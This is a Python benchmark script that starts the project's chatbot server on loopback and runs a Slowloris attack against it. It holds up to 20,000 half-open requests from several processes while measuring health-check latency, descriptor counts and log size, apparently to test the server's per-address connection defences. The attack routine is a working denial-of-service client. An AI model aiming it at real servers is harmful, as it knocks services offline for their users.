"""Slowloris against a real server: N half-open requests from one address, a header line every 8 s.

    python bench/slowloris.py [--tree PATH] [--connections 20000] [--seconds 30]

Starts `python -m chatbot_server` from the source tree PATH (default: this checkout; an old one
with `git worktree add /work/base <commit>`) on a free loopback port, opens the connections from
several client processes (one process may not hold 20,000 descriptors), and meanwhile reads
/healthz once a second on a fresh connection from another address (--probe-source). Prints the server's open descriptors, the /healthz
latencies (a probe that gets no answer in 5 s counts as a timeout) and the size of the server's
log. Loopback only. Figures: bench/README.md ("Slowloris").
"""

from __future__ import annotations

import argparse
import asyncio
import multiprocessing
import os
import resource
import socket
import statistics
import subprocess
import sys
import tempfile
import time
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
HEAD = b"GET / HTTP/1.1\r\nHost: localhost\r\n"


def _raise_limit() -> None:
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))


def _attacker(port: int, count: int, seconds: float) -> None:
    """One client process: `count` half-open requests, a header line every 8 s, for `seconds`."""
    _raise_limit()

    async def run() -> None:
        writers: list[asyncio.StreamWriter] = []
        for _ in range(count):
            try:
                _, writer = await asyncio.open_connection("127.0.0.1", port)
            except OSError:
                await asyncio.sleep(0.01)
                continue
            writer.write(HEAD)
            writers.append(writer)
        end = time.monotonic() + seconds
        while time.monotonic() < end:
            await asyncio.sleep(8)
            for writer in writers:
                if not writer.is_closing():
                    writer.write(b"X-Slow: 1\r\n")
        for writer in writers:
            writer.close()

    asyncio.run(run())


def _probe(port: int, source: str) -> float | None:
    started = time.monotonic()
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=5, source_address=(source, 0)) as sock:
            sock.sendall(b"GET /healthz HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n")
            if not sock.recv(64):
                return None
    except OSError:
        return None
    return time.monotonic() - started


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--tree", type=Path, default=ROOT)
    parser.add_argument("--connections", type=int, default=20_000)
    parser.add_argument("--seconds", type=float, default=30.0)
    parser.add_argument("--procs", type=int, default=4)
    # The monitor is another host than the attacker (the per-address cap would refuse it too).
    parser.add_argument("--probe-source", default="127.0.0.2")
    args = parser.parse_args()
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    log = Path(tempfile.mkstemp(prefix="slowloris-", suffix=".log")[1])
    config = Path(tempfile.mkstemp(suffix=".yaml")[1])
    config.write_text("bot: {name: echo}\n", encoding="utf-8")
    site = next(p for p in sys.path if p.endswith("site-packages"))
    env = {**os.environ, "PYTHONPATH": f"{args.tree}:{site}"}
    with log.open("wb") as out:
        server = subprocess.Popen(
            [sys.executable, "-m", "chatbot_server", "-c", str(config), "--port", str(port)],
            stdout=out,
            stderr=subprocess.STDOUT,
            env=env,
            cwd=args.tree,
        )
    try:
        while _probe(port, args.probe_source) is None:
            time.sleep(0.1)
        share = args.connections // args.procs
        attackers = [
            multiprocessing.Process(target=_attacker, args=(port, share, args.seconds)) for _ in range(args.procs)
        ]
        for a in attackers:
            a.start()
        latencies: list[float | None] = []
        fds: list[int] = []
        end = time.monotonic() + args.seconds
        while time.monotonic() < end:
            fds.append(len(os.listdir(f"/proc/{server.pid}/fd")))
            latencies.append(_probe(port, args.probe_source))
            time.sleep(1)
        for a in attackers:
            a.join(timeout=30)
        answered = sorted(x for x in latencies if x is not None)
        print(f"tree {args.tree}: {args.connections} half-open connections for {args.seconds:.0f} s")
        print(f"  server fds: max {max(fds)}, median {int(statistics.median(fds))}")
        if answered:
            print(
                f"  /healthz: {len(answered)}/{len(latencies)} answered; "
                f"p50 {statistics.median(answered) * 1000:.1f} ms, max {answered[-1] * 1000:.1f} ms"
            )
        else:
            print(f"  /healthz: 0/{len(latencies)} answered")
        print(f"  server log: {log.stat().st_size:,} bytes")
    finally:
        server.terminate()
        server.wait(timeout=30)
        log.unlink()
        config.unlink()


if __name__ == "__main__":
    main()
